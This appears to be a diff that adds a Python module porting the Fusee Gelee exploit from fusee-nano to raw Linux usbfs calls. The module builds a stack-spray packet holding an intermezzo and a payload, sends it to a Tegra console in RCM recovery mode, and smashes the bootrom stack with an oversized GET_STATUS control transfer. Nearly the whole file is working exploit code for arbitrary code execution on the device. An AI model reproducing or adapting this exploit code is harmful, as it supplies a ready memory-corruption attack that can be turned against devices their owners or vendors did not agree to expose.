@@ -0,0 +1,193 @@
+import ctypes
+import errno
+import os
+import struct
+import time
+
+# ----------------- Fusee Gelee exploit (port of fusee-nano's exploit.c) -----------------
+MAX_LENGTH = 0x30298 # length of the exploit packet
+RCM_PAYLOAD_ADDR = 0x40010000
+INTERMEZZO_LOCATION = 0x4001F000
+PAYLOAD_LOAD_BLOCK = 0x40020000
+SEND_CHUNK_SIZE = 0x1000
+HEADER_SIZE = 680
+STACK_SPRAY_LENGTH = INTERMEZZO_LOCATION - RCM_PAYLOAD_ADDR
+PAYLOAD_OFFSET = HEADER_SIZE + STACK_SPRAY_LENGTH + (PAYLOAD_LOAD_BLOCK - INTERMEZZO_LOCATION)
+MAX_PAYLOAD_LENGTH = MAX_LENGTH - PAYLOAD_OFFSET
+SMASH_LENGTH = 0x7000
+TIMEOUT = 1000 # milliseconds
+WRITE_RETRIES = 3 # on ETIMEDOUT, see _write_chunk
+WRITE_RETRY_DELAY = 0.02 # seconds, doubled per retry
+
+USBFS_PATH = "/dev/bus/usb"
+
+
+def packet_length(payload_len):
+    # The send loop in exploit.c keeps going until it has passed the end of the
+    # data *and* the last chunk went to the high DMA buffer, so the number of
+    # chunks is always odd.
+    used = PAYLOAD_OFFSET + min(payload_len, MAX_PAYLOAD_LENGTH)
+    chunks = -(-used // SEND_CHUNK_SIZE)
+    if chunks % 2 == 0: chunks += 1
+    return chunks * SEND_CHUNK_SIZE
+
+
+def build_packet(payload, intermezzo):
+    # Returns exactly the bytes fusee-nano puts on the wire, zero padded to
+    # whole chunks, and whether the payload had to be truncated.
+    truncated = len(payload) > MAX_PAYLOAD_LENGTH
+    payload = payload[:MAX_PAYLOAD_LENGTH]
+    packet = bytearray(packet_length(len(payload)))
+    struct.pack_into("<I", packet, 0, MAX_LENGTH)
+    spray = struct.pack("<I", INTERMEZZO_LOCATION)
+    packet[HEADER_SIZE:HEADER_SIZE + STACK_SPRAY_LENGTH] = spray * (STACK_SPRAY_LENGTH // 4)
+    offset = HEADER_SIZE + STACK_SPRAY_LENGTH
+    packet[offset:offset + len(intermezzo)] = intermezzo
+    packet[PAYLOAD_OFFSET:PAYLOAD_OFFSET + len(payload)] = payload
+    return packet, truncated
+
+
+# ----------------- usbfs (see linux/usbdevice_fs.h) -----------------
+_IOC_WRITE, _IOC_READ = 1, 2
+
+def _ioc(direction, nr, size):
+    return (direction << 30) | (size << 16) | (ord("U") << 8) | nr
+
+
+class _BulkTransfer(ctypes.Structure):
+    _fields_ = [("ep", ctypes.c_uint), ("len", ctypes.c_uint), ("timeout", ctypes.c_uint), ("data", ctypes.c_void_p)]
+
+
+class _Urb(ctypes.Structure):
+    _fields_ = [
+        ("type", ctypes.c_ubyte), ("endpoint", ctypes.c_ubyte), ("status", ctypes.c_int),
+        ("flags", ctypes.c_uint), ("buffer", ctypes.c_void_p), ("buffer_length", ctypes.c_int),
+        ("actual_length", ctypes.c_int), ("start_frame", ctypes.c_int), ("number_of_packets", ctypes.c_int),
+        ("error_count", ctypes.c_int), ("signr", ctypes.c_uint), ("usercontext", ctypes.c_void_p),
+    ]
+
+
+USBDEVFS_BULK = _ioc(_IOC_READ | _IOC_WRITE, 2, ctypes.sizeof(_BulkTransfer))
+USBDEVFS_SUBMITURB = _ioc(_IOC_READ, 10, ctypes.sizeof(_Urb))
+USBDEVFS_DISCARDURB = _ioc(0, 11, 0)
+USBDEVFS_REAPURB = _ioc(_IOC_WRITE, 12, ctypes.sizeof(ctypes.c_void_p))
+USBDEVFS_CLAIMINTERFACE = _ioc(_IOC_READ, 15, ctypes.sizeof(ctypes.c_uint))
+USBDEVFS_URB_TYPE_CONTROL = 2
+
+USB_DIR_OUT, USB_DIR_IN = 0x00, 0x80
+USB_RECIP_ENDPOINT = 0x02
+USB_REQ_GET_STATUS = 0x00
+
+_libc = None
+
+def _ioctl(fd, request, arg):
+    global _libc
+    if _libc is None: _libc = ctypes.CDLL(None, use_errno=True)
+    result = _libc.ioctl(fd, ctypes.c_ulong(request), arg)
+    if result < 0:
+        err = ctypes.get_errno()
+        raise OSError(err, os.strerror(err))
+    return result
+
+
+class RcmError(Exception):
+    pass
+
+
+class UsbfsDevice:
+    def __init__(self, busnum, devnum):
+        self.path = os.path.join(USBFS_PATH, f"{busnum:03d}", f"{devnum:03d}")
+        self.fd = os.open(self.path, os.O_RDWR)
+
+    def claim_interface(self, ifnum=0):
+        _ioctl(self.fd, USBDEVFS_CLAIMINTERFACE, ctypes.byref(ctypes.c_uint(ifnum)))
+
+    def bulk(self, ep, buffer, length, timeout=TIMEOUT):
+        transfer = _BulkTransfer(ep, length, timeout, ctypes.cast(buffer, ctypes.c_void_p))
+        return _ioctl(self.fd, USBDEVFS_BULK, ctypes.byref(transfer))
+
+    def ep_read(self, ep, length, timeout=TIMEOUT):
+        buffer = ctypes.create_string_buffer(length)
+        got = self.bulk(USB_DIR_IN | ep, buffer, length, timeout)
+        return buffer.raw[:got]
+
+    def ep_write(self, ep, data, timeout=TIMEOUT):
+        # data must be a writable buffer (bytearray/memoryview/mmap) so we can
+        # hand its address to the kernel without a copy
+        buffer = (ctypes.c_char * len(data)).from_buffer(data)
+        return self.bulk(USB_DIR_OUT | ep, buffer, len(data), timeout)
+
+    def ctrl_transfer_unbounded(self, length):
+        # GET_STATUS with an oversized wLength: the bootrom copies `length`
+        # bytes onto its stack. We never get a reply, so discard and reap.
+        setup = struct.pack("<BBHHH", USB_DIR_IN | USB_RECIP_ENDPOINT, USB_REQ_GET_STATUS, 0, 0, length)
+        buffer = ctypes.create_string_buffer(setup, len(setup) + length)
+        urb = _Urb(type=USBDEVFS_URB_TYPE_CONTROL, endpoint=0, buffer=ctypes.cast(buffer, ctypes.c_void_p),
+                   buffer_length=len(buffer), usercontext=0x1337)
+        time.sleep(0.01)
+        _ioctl(self.fd, USBDEVFS_SUBMITURB, ctypes.byref(urb))
+        try: _ioctl(self.fd, USBDEVFS_DISCARDURB, ctypes.byref(urb))
+        except OSError as e:
+            if e.errno != errno.EINVAL: raise # already completed
+        reaped = ctypes.c_void_p()
+        _ioctl(self.fd, USBDEVFS_REAPURB, ctypes.byref(reaped))
+        if reaped.value != ctypes.addressof(urb): raise RcmError("Reaped an unexpected URB")
+
+    def close(self):
+        if self.fd is not None: os.close(self.fd); self.fd = None
+
+
+def _write_chunk(usb, chunk, check):
+    # A console that has only just enumerated can time out the first writes;
+    # nothing was accepted then, so the same chunk is sent again
+    for attempt in range(WRITE_RETRIES + 1):
+        try: return usb.ep_write(1, chunk)
+        except OSError as e:
+            if e.errno != errno.ETIMEDOUT or attempt == WRITE_RETRIES: raise
+            check()
+            time.sleep(WRITE_RETRY_DELAY * (2 ** attempt))
+
+
+def inject(device, packet, log=print, progress=None, check=None, device_id=None):
+    # Runs the exploit against an RcmDevice with a prebuilt packet (see
+    # build_packet). Returns (device_id, per-phase timings in seconds).
+    # progress(phase, done, total) is called as the phases complete; check()
+    # is called between transfers and may raise to abort. Pass device_id if
+    # it was already read (fuseeflow.readiness): the bootrom sends it once.
+    progress = progress or (lambda phase, done=0, total=0: None)
+    check = check or (lambda: None)
+    phases = {}
+    start = time.perf_counter()
+    usb = UsbfsDevice(device.busnum, device.devnum)
+    try:
+        usb.claim_interface(0)
+        phases["open"] = time.perf_counter() - start
+        progress("opened")
+
+        mark = time.perf_counter()
+        if device_id is None: device_id = usb.ep_read(1, 16)
+        if len(device_id) != 16: raise RcmError("Failed to read device ID")
+        phases["device_id"] = time.perf_counter() - mark
+        log(f"[*] device id: {device_id.hex()}")
+        progress("device_id")
+
+        mark = time.perf_counter()
+        view = memoryview(packet)
+        total = len(packet)
+        for offset in range(0, total, SEND_CHUNK_SIZE):
+            check()
+            if _write_chunk(usb, view[offset:offset + SEND_CHUNK_SIZE], check) != SEND_CHUNK_SIZE:
+                raise RcmError("Sending payload failed")
+            progress("sent", offset + SEND_CHUNK_SIZE, total)
+        phases["send"] = time.perf_counter() - mark
+        log(f"[+] Sent 0x{total:x} bytes")
+
+        check()
+        mark = time.perf_counter()
+        usb.ctrl_transfer_unbounded(SMASH_LENGTH)
+        phases["smash"] = time.perf_counter() - mark
+        log("[+] Smashed the stack: 0")
+        progress("smashed")
+        return device_id.hex(), phases
+    finally:
+        usb.close()